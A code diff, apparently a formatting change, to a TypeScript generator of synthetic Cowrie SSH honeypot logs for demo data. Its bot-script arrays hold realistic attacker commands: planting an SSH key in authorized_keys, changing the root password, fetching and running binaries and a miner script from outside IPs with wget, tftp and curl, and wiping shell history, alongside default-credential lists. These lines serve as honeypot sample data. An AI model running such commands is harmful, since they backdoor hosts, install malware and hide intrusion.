@@ -9,10 +9,10 @@ import { createHash } from 'node:crypto'
 export type CowrieJson = Record<string, unknown>
 
 /** mulberry32: tiny, fast and good enough for demo data. */
-export function prng (seed: number): () => number {
+export function prng(seed: number): () => number {
   let state = seed >>> 0
   return () => {
-    state = (state + 0x6D2B79F5) >>> 0
+    state = (state + 0x6d2b79f5) >>> 0
     let t = state
     t = Math.imul(t ^ (t >>> 15), t | 1)
     t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
@@ -20,77 +20,307 @@ export function prng (seed: number): () => number {
   }
 }
 
-interface Network { asn: number, org: string, country: string, code: string, prefixes: string[], weight: number }
+interface Network {
+  asn: number
+  org: string
+  country: string
+  code: string
+  prefixes: string[]
+  weight: number
+}
 
 const NETWORKS: Network[] = [
-  { asn: 4134, org: 'CHINANET-BACKBONE', country: 'China', code: 'CN', prefixes: ['218.92.0', '61.177.172', '222.186.30', '180.101.88'], weight: 22 },
-  { asn: 14061, org: 'DigitalOcean, LLC', country: 'United States', code: 'US', prefixes: ['159.203.', '167.99.', '64.227.', '143.198.'], weight: 14 },
-  { asn: 14061, org: 'DigitalOcean, LLC', country: 'Singapore', code: 'SG', prefixes: ['128.199.', '159.89.', '178.128.'], weight: 5 },
-  { asn: 14061, org: 'DigitalOcean, LLC', country: 'Netherlands', code: 'NL', prefixes: ['188.166.', '146.190.', '209.38.'], weight: 4 },
-  { asn: 4837, org: 'CHINA UNICOM China169 Backbone', country: 'China', code: 'CN', prefixes: ['123.125.', '60.191.', '112.85.42'], weight: 8 },
-  { asn: 45090, org: 'Shenzhen Tencent Computer Systems Company Limited', country: 'China', code: 'CN', prefixes: ['43.153.', '49.232.', '101.33.'], weight: 7 },
-  { asn: 37963, org: 'Hangzhou Alibaba Advertising Co.,Ltd.', country: 'China', code: 'CN', prefixes: ['47.96.', '120.55.', '8.130.'], weight: 5 },
+  {
+    asn: 4134,
+    org: 'CHINANET-BACKBONE',
+    country: 'China',
+    code: 'CN',
+    prefixes: ['218.92.0', '61.177.172', '222.186.30', '180.101.88'],
+    weight: 22
+  },
+  {
+    asn: 14061,
+    org: 'DigitalOcean, LLC',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['159.203.', '167.99.', '64.227.', '143.198.'],
+    weight: 14
+  },
+  {
+    asn: 14061,
+    org: 'DigitalOcean, LLC',
+    country: 'Singapore',
+    code: 'SG',
+    prefixes: ['128.199.', '159.89.', '178.128.'],
+    weight: 5
+  },
+  {
+    asn: 14061,
+    org: 'DigitalOcean, LLC',
+    country: 'Netherlands',
+    code: 'NL',
+    prefixes: ['188.166.', '146.190.', '209.38.'],
+    weight: 4
+  },
+  {
+    asn: 4837,
+    org: 'CHINA UNICOM China169 Backbone',
+    country: 'China',
+    code: 'CN',
+    prefixes: ['123.125.', '60.191.', '112.85.42'],
+    weight: 8
+  },
+  {
+    asn: 45090,
+    org: 'Shenzhen Tencent Computer Systems Company Limited',
+    country: 'China',
+    code: 'CN',
+    prefixes: ['43.153.', '49.232.', '101.33.'],
+    weight: 7
+  },
+  {
+    asn: 37963,
+    org: 'Hangzhou Alibaba Advertising Co.,Ltd.',
+    country: 'China',
+    code: 'CN',
+    prefixes: ['47.96.', '120.55.', '8.130.'],
+    weight: 5
+  },
   { asn: 16276, org: 'OVH SAS', country: 'France', code: 'FR', prefixes: ['51.68.', '54.37.', '141.94.'], weight: 5 },
-  { asn: 24940, org: 'Hetzner Online GmbH', country: 'Germany', code: 'DE', prefixes: ['78.46.', '95.217.', '116.203.'], weight: 4 },
-  { asn: 63949, org: 'Akamai Connected Cloud', country: 'United States', code: 'US', prefixes: ['45.79.', '172.104.', '139.144.'], weight: 3 },
+  {
+    asn: 24940,
+    org: 'Hetzner Online GmbH',
+    country: 'Germany',
+    code: 'DE',
+    prefixes: ['78.46.', '95.217.', '116.203.'],
+    weight: 4
+  },
+  {
+    asn: 63949,
+    org: 'Akamai Connected Cloud',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['45.79.', '172.104.', '139.144.'],
+    weight: 3
+  },
   { asn: 396982, org: 'Google LLC', country: 'United States', code: 'US', prefixes: ['34.22.', '35.203.', '34.77.'], weight: 3 },
-  { asn: 8075, org: 'Microsoft Corporation', country: 'United States', code: 'US', prefixes: ['20.163.', '52.167.', '40.76.'], weight: 2 },
-  { asn: 16509, org: 'Amazon.com, Inc.', country: 'United States', code: 'US', prefixes: ['3.90.', '18.208.', '54.209.'], weight: 2 },
-  { asn: 9829, org: 'National Internet Backbone', country: 'India', code: 'IN', prefixes: ['117.247.', '61.0.', '59.94.'], weight: 4 },
-  { asn: 4766, org: 'Korea Telecom', country: 'South Korea', code: 'KR', prefixes: ['211.253.', '121.160.', '175.193.'], weight: 3 },
+  {
+    asn: 8075,
+    org: 'Microsoft Corporation',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['20.163.', '52.167.', '40.76.'],
+    weight: 2
+  },
+  {
+    asn: 16509,
+    org: 'Amazon.com, Inc.',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['3.90.', '18.208.', '54.209.'],
+    weight: 2
+  },
+  {
+    asn: 9829,
+    org: 'National Internet Backbone',
+    country: 'India',
+    code: 'IN',
+    prefixes: ['117.247.', '61.0.', '59.94.'],
+    weight: 4
+  },
+  {
+    asn: 4766,
+    org: 'Korea Telecom',
+    country: 'South Korea',
+    code: 'KR',
+    prefixes: ['211.253.', '121.160.', '175.193.'],
+    weight: 3
+  },
   { asn: 12389, org: 'PJSC Rostelecom', country: 'Russia', code: 'RU', prefixes: ['95.165.', '178.176.', '217.66.'], weight: 3 },
   { asn: 49505, org: 'JSC Selectel', country: 'Russia', code: 'RU', prefixes: ['45.131.', '92.53.', '188.93.'], weight: 2 },
   { asn: 7552, org: 'Viettel Group', country: 'Vietnam', code: 'VN', prefixes: ['27.72.', '171.224.', '116.110.'], weight: 3 },
-  { asn: 17974, org: 'PT Telekomunikasi Indonesia', country: 'Indonesia', code: 'ID', prefixes: ['36.66.', '180.250.', '118.97.'], weight: 2 },
-  { asn: 28573, org: 'Claro NXT Telecomunicacoes Ltda', country: 'Brazil', code: 'BR', prefixes: ['177.66.', '179.98.', '189.45.'], weight: 2 },
-  { asn: 9009, org: 'M247 Europe SRL', country: 'Romania', code: 'RO', prefixes: ['45.95.147', '185.224.128', '193.32.162'], weight: 3 },
-  { asn: 135377, org: 'UCLOUD INFORMATION TECHNOLOGY HK LIMITED', country: 'Hong Kong', code: 'HK', prefixes: ['152.32.', '107.150.', '118.193.'], weight: 2 },
-  { asn: 398324, org: 'Censys, Inc.', country: 'United States', code: 'US', prefixes: ['167.94.138', '167.94.145', '206.168.34'], weight: 1 },
-  { asn: 6939, org: 'Hurricane Electric LLC', country: 'United States', code: 'US', prefixes: ['184.105.139', '65.49.20', '74.82.47'], weight: 1 },
+  {
+    asn: 17974,
+    org: 'PT Telekomunikasi Indonesia',
+    country: 'Indonesia',
+    code: 'ID',
+    prefixes: ['36.66.', '180.250.', '118.97.'],
+    weight: 2
+  },
+  {
+    asn: 28573,
+    org: 'Claro NXT Telecomunicacoes Ltda',
+    country: 'Brazil',
+    code: 'BR',
+    prefixes: ['177.66.', '179.98.', '189.45.'],
+    weight: 2
+  },
+  {
+    asn: 9009,
+    org: 'M247 Europe SRL',
+    country: 'Romania',
+    code: 'RO',
+    prefixes: ['45.95.147', '185.224.128', '193.32.162'],
+    weight: 3
+  },
+  {
+    asn: 135377,
+    org: 'UCLOUD INFORMATION TECHNOLOGY HK LIMITED',
+    country: 'Hong Kong',
+    code: 'HK',
+    prefixes: ['152.32.', '107.150.', '118.193.'],
+    weight: 2
+  },
+  {
+    asn: 398324,
+    org: 'Censys, Inc.',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['167.94.138', '167.94.145', '206.168.34'],
+    weight: 1
+  },
+  {
+    asn: 6939,
+    org: 'Hurricane Electric LLC',
+    country: 'United States',
+    code: 'US',
+    prefixes: ['184.105.139', '65.49.20', '74.82.47'],
+    weight: 1
+  },
   { asn: 51167, org: 'Contabo GmbH', country: 'Germany', code: 'DE', prefixes: ['161.97.', '207.180.', '62.171.'], weight: 2 },
   { asn: 211298, org: 'Driftnet Ltd', country: 'United Kingdom', code: 'GB', prefixes: ['87.236.176', '193.163.125'], weight: 1 }
 ]
 
-const USERNAMES = ['root', 'root', 'root', 'admin', 'ubuntu', 'user', 'test', 'pi', 'oracle', 'postgres', 'git', 'ftpuser', 'debian', 'support', 'hadoop', 'deploy', 'guest', 'nagios', 'minecraft', 'sol']
-const PASSWORDS = ['123456', 'admin', 'password', 'root', '1234', '12345678', 'raspberry', '123', 'qwerty', 'admin123', '1qaz2wsx', 'P@ssw0rd', 'toor', '111111', 'abc123', 'changeme', 'ubuntu', 'test123', 'passw0rd', '0']
-const CLIENTS = ["SSH-2.0-Go", 'SSH-2.0-libssh_0.9.6', 'SSH-2.0-libssh2_1.10.0', 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6', 'SSH-2.0-paramiko_3.4.0', 'SSH-2.0-PUTTY', 'SSH-2.0-OpenSSH_7.4']
+const USERNAMES = [
+  'root',
+  'root',
+  'root',
+  'admin',
+  'ubuntu',
+  'user',
+  'test',
+  'pi',
+  'oracle',
+  'postgres',
+  'git',
+  'ftpuser',
+  'debian',
+  'support',
+  'hadoop',
+  'deploy',
+  'guest',
+  'nagios',
+  'minecraft',
+  'sol'
+]
+const PASSWORDS = [
+  '123456',
+  'admin',
+  'password',
+  'root',
+  '1234',
+  '12345678',
+  'raspberry',
+  '123',
+  'qwerty',
+  'admin123',
+  '1qaz2wsx',
+  'P@ssw0rd',
+  'toor',
+  '111111',
+  'abc123',
+  'changeme',
+  'ubuntu',
+  'test123',
+  'passw0rd',
+  '0'
+]
+const CLIENTS = [
+  'SSH-2.0-Go',
+  'SSH-2.0-libssh_0.9.6',
+  'SSH-2.0-libssh2_1.10.0',
+  'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6',
+  'SSH-2.0-paramiko_3.4.0',
+  'SSH-2.0-PUTTY',
+  'SSH-2.0-OpenSSH_7.4'
+]
 
-const MDRFCKR = 'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
+const MDRFCKR =
+  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
 
 /** Bot scripts: each a sequence typed in one session. */
-const SCRIPTS: Array<{ commands: string[], weight: number }> = [
+const SCRIPTS: Array<{ commands: string[]; weight: number }> = [
   {
     weight: 30,
     commands: [
-      'cd ~; chattr -ia .ssh; lockr -ia .ssh', 'lockr -ia .ssh', MDRFCKR, 'cat /proc/cpuinfo | grep name | wc -l',
-      'echo "root:Ym9ZPqV3hJ1c"|chpasswd|bash', 'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
-      "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'", "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
-      'ls -lh $(which ls)', 'which ls', 'crontab -l', 'w', 'uname -m', 'cat /proc/cpuinfo | grep model | grep name | wc -l', 'top', 'uname', 'uname -a', 'whoami',
-      "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"
+      'cd ~; chattr -ia .ssh; lockr -ia .ssh',
+      'lockr -ia .ssh',
+      MDRFCKR,
+      'cat /proc/cpuinfo | grep name | wc -l',
+      'echo "root:Ym9ZPqV3hJ1c"|chpasswd|bash',
+      'rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; pkill -9 sleep;',
+      "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
+      "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
+      'ls -lh $(which ls)',
+      'which ls',
+      'crontab -l',
+      'w',
+      'uname -m',
+      'cat /proc/cpuinfo | grep model | grep name | wc -l',
+      'top',
+      'uname',
+      'uname -a',
+      'whoami',
+      'lscpu | grep Model',
+      "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"
     ]
   },
   {
     weight: 20,
-    commands: ['enable', 'system', 'shell', 'sh', 'cat /proc/mounts; /bin/busybox ECCHI',
+    commands: [
+      'enable',
+      'system',
+      'shell',
+      'sh',
+      'cat /proc/mounts; /bin/busybox ECCHI',
       'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://45.95.147.236/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 45.95.147.236 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *',
-      '/bin/busybox ECCHI']
+      '/bin/busybox ECCHI'
+    ]
   },
   {
     weight: 15,
-    commands: ['uname -s -v -n -r -m', 'ps | grep \'[Mm]iner\'', 'ps -ef | grep \'[Mm]iner\'',
+    commands: [
+      'uname -s -v -n -r -m',
+      "ps | grep '[Mm]iner'",
+      "ps -ef | grep '[Mm]iner'",
       'ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd /var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*',
-      'echo Hi | cat -n', 'locate D877F783D5D3EF8Cs', '/ip cloud print', 'cat /proc/cpuinfo']
+      'echo Hi | cat -n',
+      'locate D877F783D5D3EF8Cs',
+      '/ip cloud print',
+      'cat /proc/cpuinfo'
+    ]
   },
   {
     weight: 12,
-    commands: ['uname -a', 'nproc', 'cat /etc/os-release', 'curl -s http://ipinfo.io/ip',
+    commands: [
+      'uname -a',
+      'nproc',
+      'cat /etc/os-release',
+      'curl -s http://ipinfo.io/ip',
       'cd /tmp; curl -O http://193.32.162.27/x86_64; chmod +x x86_64; ./x86_64 ssh.x86; rm -f x86_64',
-      'history -c; rm -rf ~/.bash_history']
+      'history -c; rm -rf ~/.bash_history'
+    ]
   },
   {
     weight: 10,
-    commands: ['export HISTFILE=/dev/null', 'nvidia-smi -q | grep "Product Name"', 'cat /proc/cpuinfo | grep name | wc -l',
-      'wget -qO- http://185.224.128.17/xmrig.sh | bash', 'crontab -l', 'ps aux | grep xmrig']
+    commands: [
+      'export HISTFILE=/dev/null',
+      'nvidia-smi -q | grep "Product Name"',
+      'cat /proc/cpuinfo | grep name | wc -l',
+      'wget -qO- http://185.224.128.17/xmrig.sh | bash',
+      'crontab -l',
+      'ps aux | grep xmrig'
+    ]
   },
   {
     weight: 8,
@@ -98,11 +328,19 @@ const SCRIPTS: Array<{ commands: string[], weight: number }> = [
   },
   {
     weight: 5,
-    commands: ['tftp; wget; /bin/busybox MIORI', 'cd /tmp; wget http://45.95.147.236/mips; chmod 777 mips; ./mips telnet.mips', 'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s']
+    commands: [
+      'tftp; wget; /bin/busybox MIORI',
+      'cd /tmp; wget http://45.95.147.236/mips; chmod 777 mips; ./mips telnet.mips',
+      'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s'
+    ]
   }
 ]
 
-interface Payload { url: string, destfile: string, weight: number }
+interface Payload {
+  url: string
+  destfile: string
+  weight: number
+}
 
 /** Downloaded payloads; each gets a fixed SHA-256 derived from the seed. */
 const PAYLOADS: Payload[] = [
@@ -125,7 +363,7 @@ const PAYLOADS: Payload[] = [
 
 export const SENSORS = ['hp-ams-01', 'hp-fra-02', 'hp-sgp-01', 'hp-nyc-03']
 
-function weighted<T extends { weight: number }> (items: T[]): (random: number) => T {
+function weighted<T extends { weight: number }>(items: T[]): (random: number) => T {
   const total = items.reduce((sum, item) => sum + item.weight, 0)
   return (random) => {
     let left = random * total
@@ -139,7 +377,10 @@ function weighted<T extends { weight: number }> (items: T[]): (random: number) =
 
 const hex = (rand: () => number, length: number): string => {
   let out = ''
-  while (out.length < length) out += Math.floor(rand() * 0x100000000).toString(16).padStart(8, '0')
+  while (out.length < length)
+    out += Math.floor(rand() * 0x100000000)
+      .toString(16)
+      .padStart(8, '0')
   return out.slice(0, length)
 }
 
@@ -157,12 +398,14 @@ export interface GeneratorOptions {
  * Yields one session at a time as its Cowrie events (connect, client version, logins, commands,
  * downloads, closed), oldest session first. Memory stays flat however many sessions are asked for.
  */
-export function * cowrieSessions (options: GeneratorOptions): Generator<CowrieJson[]> {
+export function* cowrieSessions(options: GeneratorOptions): Generator<CowrieJson[]> {
   const rand = prng(options.seed)
   const pickNetwork = weighted(NETWORKS)
   const pickScript = weighted(SCRIPTS)
   const pickPayload = weighted(PAYLOADS)
-  const hashes = new Map(PAYLOADS.map((payload) => [payload.url, createHash('sha256').update(`${options.seed}:${payload.url}`).digest('hex')]))
+  const hashes = new Map(
+    PAYLOADS.map((payload) => [payload.url, createHash('sha256').update(`${options.seed}:${payload.url}`).digest('hex')])
+  )
   // A few thousand recurring attackers, as on a real honeynet: the same hosts come back all day.
   const attackers = Array.from({ length: 3000 }, () => {
     const network = pickNetwork(rand())
@@ -185,18 +428,36 @@ export function * cowrieSessions (options: GeneratorOptions): Generator<CowrieJs
     const port = 30000 + Math.floor(rand() * 35000)
     const enriched = rand() >= unenriched
     const geoip = enriched
-      ? { geoip: { asn: attacker.network.asn, as_org: attacker.network.org, country_name: attacker.network.country, country_code2: attacker.network.code, ip: attacker.ip } }
+      ? {
+          geoip: {
+            asn: attacker.network.asn,
+            as_org: attacker.network.org,
+            country_name: attacker.network.country,
+            country_code2: attacker.network.code,
+            ip: attacker.ip
+          }
+        }
       : {}
     const base0 = { session, src_ip: attacker.ip, sensor: attacker.sensor, ...geoip }
-    const at = () => new Date(t).toISOString().replace('Z', `${Math.floor(rand() * 1000).toString().padStart(3, '0')}Z`)
+    const at = () =>
+      new Date(t).toISOString().replace(
+        'Z',
+        `${Math.floor(rand() * 1000)
+          .toString()
+          .padStart(3, '0')}Z`
+      )
     const start = t
     const events: CowrieJson[] = []
     const push = (eventid: string, fields: CowrieJson, message: string, advanceMs: number) => {
       t += advanceMs
       events.push({ eventid, ...fields, message, timestamp: at(), ...base0 })
     }
-    push('cowrie.session.connect', { src_port: port, dst_ip: '10.0.0.4', dst_port: 22, protocol: 'ssh' },
-      `New connection: ${attacker.ip}:${port} (10.0.0.4:22) [session: ${session}]`, 0)
+    push(
+      'cowrie.session.connect',
+      { src_port: port, dst_ip: '10.0.0.4', dst_port: 22, protocol: 'ssh' },
+      `New connection: ${attacker.ip}:${port} (10.0.0.4:22) [session: ${session}]`,
+      0
+    )
     const kind = rand()
     if (kind < 0.5) {
       push('cowrie.session.closed', { duration: 0.4 }, 'Connection lost after 0.4 seconds', 400)
@@ -218,8 +479,12 @@ export function * cowrieSessions (options: GeneratorOptions): Generator<CowrieJs
         if (rand() < 0.3) {
           const payload = pickPayload(rand())
           const shasum = hashes.get(payload.url)!
-          push('cowrie.session.file_download', { url: payload.url, outfile: `var/lib/cowrie/downloads/${shasum}`, shasum, destfile: payload.destfile },
-            `Downloaded URL (${payload.url}) with SHA-256 ${shasum} to var/lib/cowrie/downloads/${shasum}`, 1500)
+          push(
+            'cowrie.session.file_download',
+            { url: payload.url, outfile: `var/lib/cowrie/downloads/${shasum}`, shasum, destfile: payload.destfile },
+            `Downloaded URL (${payload.url}) with SHA-256 ${shasum} to var/lib/cowrie/downloads/${shasum}`,
+            1500
+          )
         }
       }
       const duration = Math.round((t + 1000 - start) / 100) / 10
